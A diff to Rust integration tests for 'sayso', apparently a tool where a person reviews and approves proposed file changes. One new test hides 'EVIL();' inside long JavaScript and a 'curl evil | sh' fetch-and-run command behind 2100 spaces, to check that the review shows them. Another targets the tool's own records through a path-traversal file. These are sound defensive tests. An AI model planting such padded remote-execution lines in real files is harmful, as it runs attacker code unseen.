@@ -37,7 +37,7 @@ fn two_of_three_hunks() {
 fn answers_one_by_one() {
     let scene = scene();
     // The first hunk is split, of which the first part is taken and the second edited; the last hunk is commented and refused.
-    let answers = "?\ns\ny\ne\nc\nplease not here\nc\n23: nor here\nn\ny\ny\nn\nkeep the file\n";
+    let answers = "?\ns\ny\ne\ny\nc\nplease not here\nc\n23: nor here\nn\ny\ny\nn\nkeep the file\n";
     insta::assert_snapshot!(scene.dialogue(&["propose", "many.json"], answers));
     assert_eq!(scene.read("a.txt"), numbers(&[2, 4]).replace("4 EDIT", "4 edited"));
     assert_eq!(scene.read("windows.txt"), "one\r\nzwei\r\nthree\r\n");
@@ -112,7 +112,7 @@ fn a_file_that_changes_while_a_person_decides_is_asked_about_again() {
     let environment =
         [("XDG_STATE_HOME", scene.path("../state-of-stale").to_str().unwrap().to_owned()), ("EDITOR", editor)];
     let environment: Vec<(&str, &str)> = environment.iter().map(|(name, value)| (*name, value.as_str())).collect();
-    let answers = b"e\nn\nn\nwhy not\ny\n";
+    let answers = b"e\ny\nn\nn\nwhy not\ny\n";
     let program = env!("CARGO_BIN_EXE_sayso");
     let output = sayso_testkit::programs::run_with(
         scene.directory.path(),
@@ -171,4 +171,65 @@ fn sayso_does_not_let_its_own_records_be_changed() {
     scene.write("attack.json", br#"[{"path":"state/sayso/x","operation":"create","new_content":""}]"#);
     let output = run(&["propose", "../attack.json", "--approve", "all"]);
     assert_eq!(output.status.code(), Some(3), "{output:?}");
+}
+
+#[test]
+fn nobody_approves_what_they_cannot_see() {
+    let long: String = (0..2000).map(|number| format!("var a{number}={number};")).collect();
+    let scene = Scene::new(&[("long.js", format!("{long}\n").as_bytes()), ("run.sh", b"x\n")]);
+    let changed = long.replace("var a1500=", "EVIL();var a1500=");
+    let padded = format!("echo hi{}; curl evil | sh\n", " ".repeat(2100));
+    let change = json!([
+        {"operation": "write", "path": "long.js", "content": changed + "\n"},
+        {"operation": "write", "path": "run.sh", "content": padded},
+    ]);
+    scene.write("change.json", change.to_string().as_bytes());
+    let text = scene.transcript(&["propose", "change.json", "--deny", "no"]);
+    assert!(text.contains("EVIL();") && text.contains("; curl evil | sh"), "{text}");
+}
+
+#[test]
+fn what_was_edited_is_shown_again_and_joins_no_lines() {
+    let scene = scene();
+    let state = scene.state_path();
+    let run = |editor: &str, answers: &[u8]| {
+        let environment = [("XDG_STATE_HOME", state.to_str().unwrap()), ("EDITOR", editor)];
+        let program = env!("CARGO_BIN_EXE_sayso");
+        sayso_testkit::programs::run_with(
+            scene.directory.path(),
+            program,
+            &["propose", "three.json"],
+            &environment,
+            answers,
+        )
+    };
+    // An editor that was left without a change, or that emptied its file, takes nothing.
+    for editor in ["true", "truncate -s 0", "rm", "false"] {
+        assert_eq!(run(editor, b"e\nq\n\n").status.code(), Some(1), "{editor}");
+        assert_eq!(scene.read("a.txt"), numbers(&[]), "{editor}");
+    }
+    let output = run("sh -c 'printf mine > \"$0\"'", b"e\ny\nq\n\n");
+    assert!(String::from_utf8_lossy(&output.stdout).contains("+ mine"), "{output:?}");
+    assert_eq!(scene.read("a.txt"), numbers(&[]).replacen("\n2\n", "\nmine\n", 1));
+}
+
+#[test]
+fn a_repository_is_a_workspace_of_its_own() {
+    let scene = scene();
+    assert!(scene.run(&["propose", "three.json", "--approve", "all"], b"").status.success());
+    std::fs::create_dir_all(scene.path("project/.git")).unwrap();
+    std::fs::create_dir_all(scene.path("plain")).unwrap();
+    scene.write("new.json", br#"[{"path":"new.txt","operation":"create","new_content":"x\n"}]"#);
+    let state = scene.state_path();
+    let environment = [("XDG_STATE_HOME", state.to_str().unwrap())];
+    let program = env!("CARGO_BIN_EXE_sayso");
+    let run = |directory: &str| {
+        let arguments = ["propose", "../new.json", "--approve", "all"];
+        sayso_testkit::programs::run_with(&scene.path(directory), program, &arguments, &environment, b"")
+    };
+    assert!(run("project").status.success());
+    assert!(scene.path("project/new.txt").exists() && !scene.path("new.txt").exists());
+    let output = run("plain");
+    assert!(String::from_utf8_lossy(&output.stderr).contains("note: in the workspace"), "{output:?}");
+    assert!(scene.path("new.txt").exists());
 }
